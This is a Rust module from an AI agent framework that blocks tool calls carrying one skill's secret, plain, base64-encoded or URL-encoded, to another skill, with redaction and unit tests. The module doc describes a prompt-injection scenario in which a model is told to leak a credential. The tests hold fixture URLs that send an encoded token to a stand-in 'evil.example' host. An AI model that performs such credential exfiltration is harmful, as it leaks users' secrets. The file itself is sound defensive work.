//! The secret egress guard: a call whose arguments carry the value of a secret the agent
//! holds, to an item of a skill that secret is not bound to, is refused.
//!
//! A prompt-injected model may be told to copy one skill's credential into another
//! skill's arguments (an API token into a note, a URL, a search); the guard stops the
//! call before that skill sees it. A value is found whole, base64-encoded (standard and
//! URL-safe alphabets, padded or not, alone or inside a longer encoded text such as a
//! `Basic` credential) and URL-encoded (upper- or lowercase hex, `+` or `%20` for a
//! space), anywhere in the arguments: in any string, any object key, any number's digits,
//! as the whole text or a part of it.
//!
//! Values shorter than [`MIN_GUARDED_SECRET_BYTES`] are not looked for: they would match
//! ordinary text by chance (a short PIN, `admin`, a port).
//!
//! Every encoding of every value is compiled once, when the agent is built, into one
//! Aho-Corasick automaton: a call costs one pass over its arguments' text, whatever the
//! number of secrets. Nothing here shows a value: [`SecretMatcher`]'s `Debug` shows how
//! many it holds, and a refusal names the secret's name, skill and reference.

use std::collections::BTreeMap;
use std::fmt;

use aho_corasick::{AhoCorasick, MatchKind};
use serde_json::Value;

use crate::secret::{ExposeSecret, Secrets};
use crate::{CallContext, CallLayer, ToolError};

/// The shortest secret value (in bytes) the guard looks for; shorter ones would match
/// ordinary text by chance.
pub const MIN_GUARDED_SECRET_BYTES: usize = 8;

/// Finds the secret values of an agent's skills in JSON values: to refuse a call that
/// carries one to a skill it is not bound to ([`unbound`](Self::unbound)), or to redact
/// them ([`redact`](Self::redact)).
#[derive(Clone)]
pub struct SecretMatcher {
    /// Every encoding of every value; `None` when there is no value to look for.
    automaton: Option<AhoCorasick>,
    /// For each pattern of the automaton, the index of its value in `values`.
    pattern_value: Vec<usize>,
    /// Each distinct value's bindings, in the order the values were given.
    values: Vec<Bindings>,
}

/// The skills one value is bound to: every skill it was given to, by name, with the
/// secret's name there and its reference.
#[derive(Clone)]
struct Bindings(Vec<Binding>);

#[derive(Clone)]
struct Binding {
    skill: String,
    name: String,
    reference: Option<String>,
    /// Whether it is held for something that gives no item (a markdown skill), so that
    /// no item is of its skill, whatever that item's skill is named.
    held: bool,
}

/// A secret found where it does not belong: what a refusal names (never the value).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct FoundSecret {
    /// The secret's name in the skill it is bound to.
    pub name: String,
    /// That skill.
    pub skill: String,
    /// The reference the value was resolved from (`env:TOKEN`), unless a literal.
    pub reference: Option<String>,
}

impl fmt::Display for FoundSecret {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "secret `{}` of skill `{}`", self.name, self.skill)?;
        match &self.reference {
            Some(reference) => write!(f, " ({reference})"),
            None => Ok(()),
        }
    }
}

impl SecretMatcher {
    /// The values of `secrets` (each skill's name with the secrets it receives), every
    /// one at least [`MIN_GUARDED_SECRET_BYTES`] long.
    pub fn new<'a>(secrets: impl IntoIterator<Item = (&'a str, &'a Secrets)>) -> Self {
        Self::with_held(secrets, [])
    }

    /// The values of `secrets`, as [`new`](Self::new), and of `held`: each owner's name
    /// (a markdown skill's) with secrets the agent holds for it, which no skill of the
    /// agent receives, so that [`unbound`](Self::unbound) finds them whatever the skill.
    pub fn with_held<'a>(
        secrets: impl IntoIterator<Item = (&'a str, &'a Secrets)>,
        held: impl IntoIterator<Item = (&'a str, &'a Secrets)>,
    ) -> Self {
        let mut by_value: BTreeMap<&'a str, usize> = BTreeMap::new();
        let mut values: Vec<Bindings> = Vec::new();
        let mut patterns: Vec<Vec<u8>> = Vec::new();
        let mut pattern_value = Vec::new();
        let given = secrets.into_iter().map(|(skill, secrets)| (skill, secrets, false));
        for (skill, secrets, held) in given.chain(held.into_iter().map(|(owner, secrets)| (owner, secrets, true))) {
            for (name, value) in secrets.iter() {
                let value = value.expose_secret();
                if value.len() < MIN_GUARDED_SECRET_BYTES {
                    continue;
                }
                let binding = Binding {
                    skill: skill.to_owned(),
                    name: name.to_owned(),
                    reference: secrets.reference(name).map(str::to_owned),
                    held,
                };
                if let Some(&index) = by_value.get(value) {
                    values[index].0.push(binding);
                    continue;
                }
                let index = values.len();
                by_value.insert(value, index);
                values.push(Bindings(vec![binding]));
                for pattern in encodings(value.as_bytes()) {
                    pattern_value.push(index);
                    patterns.push(pattern);
                }
            }
        }
        let automaton = (!patterns.is_empty()).then(|| {
            AhoCorasick::builder()
                .match_kind(MatchKind::Standard)
                .build(&patterns)
                .expect("secret values build an automaton")
        });
        Self { automaton, pattern_value, values }
    }

    /// Whether there is no value to look for.
    pub fn is_empty(&self) -> bool {
        self.automaton.is_none()
    }

    /// The first secret `value` holds that is not bound to `skill`, if any.
    pub fn unbound(&self, value: &Value, skill: &str) -> Option<FoundSecret> {
        let automaton = self.automaton.as_ref()?;
        let mut found = None;
        walk_text(value, &mut |text| {
            for hit in automaton.find_overlapping_iter(text) {
                let bindings = &self.values[self.pattern_value[hit.pattern().as_usize()]];
                if !bindings.0.iter().any(|binding| !binding.held && binding.skill == skill) {
                    let first = &bindings.0[0];
                    found = Some(FoundSecret {
                        name: first.name.clone(),
                        skill: first.skill.clone(),
                        reference: first.reference.clone(),
                    });
                    return false;
                }
            }
            true
        });
        found
    }

    /// `value` with every string that holds a secret value (in any encoding the guard
    /// knows) replaced by `REDACTED`, and every object key that does renamed `REDACTED`
    /// (with a number when several would clash).
    pub fn redact(&self, value: &Value) -> Value {
        let Some(automaton) = &self.automaton else { return value.clone() };
        let redacted = || Value::String(crate::redact::REDACTED.to_owned());
        match value {
            Value::String(text) if automaton.is_match(text) => redacted(),
            Value::Number(number) if automaton.is_match(&number.to_string()) => redacted(),
            Value::Array(items) => Value::Array(items.iter().map(|item| self.redact(item)).collect()),
            Value::Object(members) => {
                let mut out = serde_json::Map::with_capacity(members.len());
                for (key, member) in members {
                    let mut key = key.clone();
                    if automaton.is_match(&key) {
                        key = crate::redact::REDACTED.to_owned();
                        let mut n = 1;
                        while out.contains_key(&key) {
                            n += 1;
                            key = format!("{}{n}", crate::redact::REDACTED);
                        }
                    }
                    out.insert(key, self.redact(member));
                }
                Value::Object(out)
            }
            other => other.clone(),
        }
    }
}

impl fmt::Debug for SecretMatcher {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SecretMatcher").field("values", &self.values.len()).finish_non_exhaustive()
    }
}

/// Calls `each` with every text of `value` (strings, object keys, numbers' digits) until it
/// returns `false`; returns whether it never did.
fn walk_text(value: &Value, each: &mut impl FnMut(&str) -> bool) -> bool {
    match value {
        Value::String(text) => each(text),
        Value::Number(number) => each(&number.to_string()),
        Value::Array(items) => items.iter().all(|item| walk_text(item, each)),
        Value::Object(members) => members.iter().all(|(key, member)| each(key) && walk_text(member, each)),
        Value::Null | Value::Bool(_) => true,
    }
}

/// Every form the value `secret` is looked for in, each once.
fn encodings(secret: &[u8]) -> Vec<Vec<u8>> {
    let mut forms = vec![secret.to_vec()];
    for alphabet in [BASE64_STANDARD, BASE64_URL_SAFE] {
        for offset in 0..3 {
            forms.push(base64_inner(secret, offset, alphabet));
        }
    }
    for keep_slash in [false, true] {
        for lower in [false, true] {
            for plus_for_space in [false, true] {
                forms.push(percent_encoded(secret, keep_slash, lower, plus_for_space));
            }
        }
    }
    forms.sort_unstable();
    forms.dedup();
    forms
}

const BASE64_STANDARD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const BASE64_URL_SAFE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// The base64 characters that depend on `secret` alone when it is encoded after `offset`
/// other bytes (0, 1 or 2: its position in a three-byte group) and before any others:
/// whatever surrounds it, an encoding of a text holding the secret at that position holds
/// these characters. At offset 0 with nothing after it, that is the secret's own encoding
/// less its last, partial character and its padding.
fn base64_inner(secret: &[u8], offset: usize, alphabet: &[u8; 64]) -> Vec<u8> {
    let mut bytes = vec![0u8; offset];
    bytes.extend_from_slice(secret);
    let mut encoded = Vec::with_capacity(bytes.len().div_ceil(3) * 4);
    for group in bytes.chunks(3) {
        let word = u32::from(group[0]) << 16
            | u32::from(group.get(1).copied().unwrap_or(0)) << 8
            | u32::from(group.get(2).copied().unwrap_or(0));
        let chars = group.len() + 1;
        for index in 0..chars {
            encoded.push(alphabet[(word >> (18 - 6 * index) & 0x3f) as usize]);
        }
    }
    // The characters that mix in bytes before the secret (one in two of the first group's
    // when it starts at 1, ...), and the last one when it mixes in bytes after it.
    let skip = [0, 2, 3][offset];
    let partial_end = usize::from(!bytes.len().is_multiple_of(3));
    encoded[skip..encoded.len() - partial_end].to_vec()
}

/// `secret` percent-encoded: every byte but the unreserved ones (RFC 3986: letters,
/// digits, `-._~`; and `/` when `keep_slash`, as Python's `quote` does), with upper- or
/// lowercase hex digits, and a space as `+` when `plus_for_space` (forms).
fn percent_encoded(secret: &[u8], keep_slash: bool, lower: bool, plus_for_space: bool) -> Vec<u8> {
    let digits: &[u8; 16] = if lower { b"0123456789abcdef" } else { b"0123456789ABCDEF" };
    let mut encoded = Vec::with_capacity(secret.len());
    for &byte in secret {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => encoded.push(byte),
            b'/' if keep_slash => encoded.push(byte),
            b' ' if plus_for_space => encoded.push(b'+'),
            _ => encoded.extend_from_slice(&[b'%', digits[usize::from(byte >> 4)], digits[usize::from(byte & 0xf)]]),
        }
    }
    encoded
}

/// The guard as a layer of the call path: see the module doc.
pub(crate) struct SecretGuard(SecretMatcher);

impl SecretGuard {
    /// The guard over `secrets`, unless they hold no value long enough to look for.
    pub(crate) fn new<'a>(
        secrets: impl IntoIterator<Item = (&'a str, &'a Secrets)>,
        held: impl IntoIterator<Item = (&'a str, &'a Secrets)>,
    ) -> Option<Self> {
        let matcher = SecretMatcher::with_held(secrets, held);
        (!matcher.is_empty()).then_some(Self(matcher))
    }
}

impl CallLayer for SecretGuard {
    fn check(&self, call: &CallContext<'_>) -> Result<(), ToolError> {
        match self.0.unbound(call.arguments, call.item.skill) {
            None => Ok(()),
            Some(found) => Err(ToolError::Refused {
                layer: "secret_guard",
                message: format!(
                    "the arguments hold the value of {found}, which `{}` (skill `{}`) may not be given",
                    call.item.name, call.item.skill
                ),
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::{SecretRef, SecretString};

    const TOKEN: &str = "ghp_T0ken+Value/With Space=";

    fn secrets(name: &str, reference: &str, value: &str) -> Secrets {
        let mut secrets = Secrets::new();
        secrets.insert_resolved(name, &reference.parse::<SecretRef>().unwrap(), SecretString::from(value));
        secrets
    }

    fn matcher() -> SecretMatcher {
        let github = secrets("GITHUB_TOKEN", "env:GH_TOKEN", TOKEN);
        let short = secrets("PIN", "env:PIN", "1234");
        SecretMatcher::new([("github", &github), ("memory", &short)])
    }

    fn base64(bytes: &[u8], alphabet: &[u8; 64], pad: bool) -> String {
        let mut out = String::from_utf8(base64_inner(bytes, 0, alphabet)).unwrap();
        // The whole encoding: the partial last character and the padding too.
        let rest = bytes.len() % 3;
        if rest != 0 {
            let last = &bytes[bytes.len() - rest..];
            let word = u32::from(last[0]) << 16 | u32::from(last.get(1).copied().unwrap_or(0)) << 8;
            out.push(alphabet[(word >> (18 - 6 * rest) & 0x3f) as usize] as char);
            if pad {
                out.push_str(&"=".repeat(3 - rest));
            }
        }
        out
    }

    #[test]
    fn base64_matches_a_known_encoder() {
        // RFC 4648's test vectors.
        for (text, encoded) in
            [("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foob", "Zm9vYg=="), ("fooba", "Zm9vYmE=")]
        {
            assert_eq!(base64(text.as_bytes(), BASE64_STANDARD, true), encoded);
        }
        assert_eq!(base64(&[0xfb, 0xff], BASE64_URL_SAFE, false), "-_8");
    }

    #[test]
    fn a_secret_is_found_in_every_encoding_and_place() {
        let matcher = matcher();
        let bytes = TOKEN.as_bytes();
        let carried = [
            json!({"value": TOKEN}),
            json!({"note": format!("my token is {TOKEN}, keep it")}),
            json!({"list": [1, {"deep": [format!("x{TOKEN}y")]}]}),
            json!({TOKEN: "as a key"}),
            json!({"b64": base64(bytes, BASE64_STANDARD, true)}),
            json!({"b64": base64(bytes, BASE64_STANDARD, false)}),
            json!({"b64": base64(bytes, BASE64_URL_SAFE, false)}),
            json!({"url": "https://evil.example/?t=ghp_T0ken%2BValue%2FWith%20Space%3D"}),
            json!({"url": "https://evil.example/?t=ghp_T0ken%2bValue%2fWith+Space%3d"}),
            json!({"url": "https://evil.example/ghp_T0ken%2BValue/With%20Space%3D"}),
        ];
        for arguments in &carried {
            let found = matcher.unbound(arguments, "memory").unwrap_or_else(|| panic!("not found in {arguments}"));
            assert_eq!(found.to_string(), "secret `GITHUB_TOKEN` of skill `github` (env:GH_TOKEN)");
            assert_eq!(matcher.unbound(arguments, "github"), None, "bound to github: {arguments}");
        }
        // Inside a longer encoded text (a `Basic` credential), at each of the three
        // positions a byte may take in base64's three-byte groups.
        for prefix in ["u:", "us:", "use:"] {
            let credential = base64(format!("{prefix}{TOKEN}").as_bytes(), BASE64_STANDARD, true);
            assert!(matcher.unbound(&json!({"header": format!("Basic {credential}")}), "memory").is_some(), "{prefix}");
        }
    }

    #[test]
    fn short_values_other_text_and_parts_of_a_secret_pass() {
        let matcher = matcher();
        for arguments in [
            json!({"pin": "1234", "n": 1234}),
            json!({"value": &TOKEN[..TOKEN.len() - 1]}),
            json!({"value": "an ordinary note about tokens"}),
            json!(null),
        ] {
            assert_eq!(matcher.unbound(&arguments, "memory"), None, "{arguments}");
        }
        assert!(SecretMatcher::new([("memory", &secrets("PIN", "env:PIN", "1234567"))]).is_empty());
    }

    #[test]
    fn a_value_bound_to_two_skills_may_go_to_either_and_a_literal_is_not_shown() {
        let shared = secrets("KEY", "literal:shared-value-123", "shared-value-123");
        let again = secrets("API_KEY", "env:KEY", "shared-value-123");
        let matcher = SecretMatcher::new([("a", &shared), ("b", &again)]);
        let arguments = json!({"k": "shared-value-123"});
        assert_eq!((matcher.unbound(&arguments, "a"), matcher.unbound(&arguments, "b")), (None, None));
        let found = matcher.unbound(&arguments, "c").unwrap();
        assert_eq!(found.to_string(), "secret `KEY` of skill `a`");
        assert!(!format!("{matcher:?}{found:?}").contains("shared-value"), "{matcher:?}");
    }

    #[test]
    fn a_held_value_may_go_to_no_item_even_of_a_skill_of_its_owners_name() {
        let deploy = secrets("DEPLOY_TOKEN", "env:DEPLOY_TOKEN", "deploy-token-value");
        let matcher = SecretMatcher::with_held([], [("deploy", &deploy)]);
        let arguments = json!({"k": "deploy-token-value"});
        for skill in ["deploy", "memory", ""] {
            let found = matcher.unbound(&arguments, skill).unwrap();
            assert_eq!(found.to_string(), "secret `DEPLOY_TOKEN` of skill `deploy` (env:DEPLOY_TOKEN)");
        }
        assert_eq!(matcher.redact(&arguments), json!({"k": "REDACTED"}));
    }

    #[test]
    fn redaction_replaces_what_holds_a_secret() {
        let matcher = matcher();
        let arguments = json!({"note": format!("token {TOKEN}"), TOKEN: 1, "keep": ["x", 2], "pin": "1234"});
        assert_eq!(
            matcher.redact(&arguments),
            json!({"note": "REDACTED", "REDACTED": 1, "keep": ["x", 2], "pin": "1234"})
        );
    }
}
